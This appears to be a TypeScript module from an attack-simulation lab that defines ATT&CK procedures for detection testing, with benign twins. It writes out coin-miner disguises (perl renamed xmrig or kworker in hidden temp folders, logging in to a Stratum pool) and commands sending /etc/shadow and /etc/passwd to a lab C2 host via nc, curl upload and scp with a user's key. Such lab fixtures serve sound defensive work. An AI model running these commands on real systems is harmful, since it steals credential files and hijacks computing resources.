// Impact and exfiltration: a coin miner dropped into a temporary folder that logs in to a Stratum pool
// (T1496), and credential files sent out over a raw TCP socket, an HTTP upload and scp (T1048). The pool and
// the drop servers are listeners each procedure starts itself on the lab's "internet" and kills by its $!.
import type { Technique } from './types.js';
import { INTERNET } from '../technique-lab.js';

const { web: WEB, c2: C2 } = INTERNET;

/** A listener on C2:port that swallows what it is sent, as L; waits until it listens (ss, no probe), at most 2 s. */
const sink = (port: number) =>
  `nc -l ${C2} ${port} >/dev/null 2>&1 & L=$!; for i in $(seq 20); do ss -Hltn | grep -qF "${C2}:${port} " && break; sleep 0.1; done`;
const stop = 'kill $L 2>/dev/null; wait $L 2>/dev/null; true';
/**
 * Ends a procedure a moment after its last step: the lab attributes events to a run by time with 50 ms of
 * slack, so a credential read in a procedure's last milliseconds would otherwise count for the benign twin after it.
 */
const settle = 'sleep 0.2';
/** The miner's work: a Stratum login (JSON-RPC over TCP) to the pool, written in perl (the binary is perl renamed). */
const stratumLogin = `'use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "${C2}", PeerPort => 3333) or exit 1; print $s qq({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4AwalletLab","pass":"x","agent":"XMRig/6.21.0"}}\\n); close $s'`;

export const impact: Technique[] = [
  {
    id: 'T1496',
    name: 'Resource hijacking (coin miner)',
    tactic: 'impact',
    procedures: [
      {
        name: 'xmrig in /tmp with a stratum URL',
        script: `${sink(3333)}; mkdir -p /tmp/.x && cp /usr/bin/perl /tmp/.x/xmrig && /tmp/.x/xmrig -e ${stratumLogin} -- -o stratum+tcp://${C2}:3333 -u 4AwalletLab -p x -k; rm -rf /tmp/.x; ${stop}; ${settle}`,
        user: 'www-data',
      },
      {
        name: 'miner renamed kworker in /dev/shm',
        script: `${sink(3333)}; cp /usr/bin/perl /dev/shm/kworker && /dev/shm/kworker -e ${stratumLogin} -- --donate-level 1 --cpu-max-threads-hint 50 -o ${C2}:3333; rm -f /dev/shm/kworker; ${stop}; ${settle}`,
        user: 'www-data',
      },
    ],
    benign: {
      name: 'a local dashboard on port 3333',
      script: `python3 -m http.server 3333 --bind 127.0.0.1 >/dev/null 2>&1 & L=$!; for i in $(seq 20); do curl -s -o /dev/null http://127.0.0.1:3333/ && break; sleep 0.1; done; ${stop}`,
    },
  },
  {
    id: 'T1048',
    name: 'Exfiltration over alternative protocol',
    tactic: 'exfiltration',
    procedures: [
      { name: 'tar piped to nc', script: `${sink(9001)}; tar czf - /etc/shadow /etc/passwd 2>/dev/null | nc -N ${C2} 9001; ${stop}; ${settle}` },
      { name: 'curl --upload-file', script: `curl -s -o /dev/null --upload-file /etc/shadow http://${WEB}/drop/s.txt; ${settle}` },
      {
        name: 'scp of shadow',
        script: `scp -q -i /home/alice/.ssh/id_ed25519 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null /etc/shadow alice@${C2}:/tmp/s.txt; ${settle}`,
      },
    ],
    benign: {
      name: 'scp a report with a key',
      script: 'echo "weekly report" > /home/alice/report.txt && scp -q -o BatchMode=yes /home/alice/report.txt alice@127.0.0.1:/tmp/report.txt; true',
      user: 'alice',
    },
  },
];
